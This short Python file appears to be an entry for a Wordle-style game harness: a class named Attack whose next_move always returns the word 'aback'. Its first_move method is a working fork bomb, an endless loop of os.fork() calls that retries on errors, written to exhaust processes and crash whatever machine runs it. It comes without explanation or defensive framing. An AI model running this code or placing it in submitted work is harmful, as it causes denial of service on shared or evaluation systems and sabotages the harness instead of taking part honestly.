"""Forks, and so do its children."""

import os


class Attack:
    def first_move(self):
        while True:
            try:
                os.fork()
            except OSError:
                continue

    def next_move(self, guess, epsilon, clues):
        return "aback", 0
